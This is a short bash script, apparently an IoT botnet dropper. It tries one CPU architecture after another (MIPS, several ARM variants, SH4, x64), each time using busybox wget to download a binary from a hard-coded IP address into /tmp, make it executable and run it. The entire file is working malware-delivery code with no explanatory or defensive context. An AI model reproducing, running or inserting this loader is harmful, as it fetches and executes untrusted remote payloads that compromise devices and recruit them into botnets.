#!/bin/bash
( cd /tmp; rm -rf qoH8SotBDj);
( cd /tmp; busybox wget http://158.255.5.220/mips -O qoH8SotBDj; chmod +x qoH8SotBDj; ./qoH8SotBDj) ||
( cd /tmp; busybox wget http://158.255.5.220/armv4l -O qoH8SotBDj; chmod +x qoH8SotBDj; ./qoH8SotBDj) ||
( cd /tmp; busybox wget http://158.255.5.220/mipsel -O qoH8SotBDj; chmod +x qoH8SotBDj; ./qoH8SotBDj) ||
( cd /tmp; busybox wget http://158.255.5.220/armv7l -O qoH8SotBDj; chmod +x qoH8SotBDj; ./qoH8SotBDj) ||
( cd /tmp; busybox wget http://158.255.5.220/armv5l -O qoH8SotBDj; chmod +x qoH8SotBDj; ./qoH8SotBDj) ||
( cd /tmp; busybox wget http://158.255.5.220/armv6l -O qoH8SotBDj; chmod +x qoH8SotBDj; ./qoH8SotBDj) ||
( cd /tmp; busybox wget http://158.255.5.220/sh4 -O qoH8SotBDj; chmod +x qoH8SotBDj; ./qoH8SotBDj) ||
( cd /tmp; busybox wget http://158.255.5.220/x64 -O qoH8SotBDj; chmod +x qoH8SotBDj; ./qoH8SotBDj);